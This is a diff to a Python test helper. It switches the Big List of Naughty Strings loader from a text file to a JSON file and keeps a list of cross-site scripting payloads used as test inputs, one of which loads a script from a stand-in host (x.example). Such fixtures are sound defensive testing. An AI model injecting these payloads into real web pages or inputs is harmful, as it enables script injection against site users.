@@ -2,11 +2,12 @@
 
 from __future__ import annotations
 
+import json
 from functools import cache
 
 from tests.source import ROOT
 
-# Each calls alert(), should anything run it; `NUMBER` tells them apart.
+# Each calls alert(), or asks another host, should anything run it.
 SCRIPTS = [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
@@ -75,6 +76,6 @@ CAUGHT = [one for one in SCRIPTS if one.startswith("<") and not one.startswith((
 
 @cache
 def naughty_strings() -> list[str]:
-    """Return the list of naughty strings, as tests/data/blns.txt has it (see the licence beside it)."""
-    text = (ROOT / "tests" / "data" / "blns.txt").read_text(encoding="utf-8")
-    return [line for line in text.split("\n") if line and not line.startswith("#")]
+    """Return the Big List of Naughty Strings, without the empty one (its licence stands beside it)."""
+    text = (ROOT / "tests" / "data" / "blns.json").read_text(encoding="utf-8")
+    return [one for one in json.loads(text) if one]
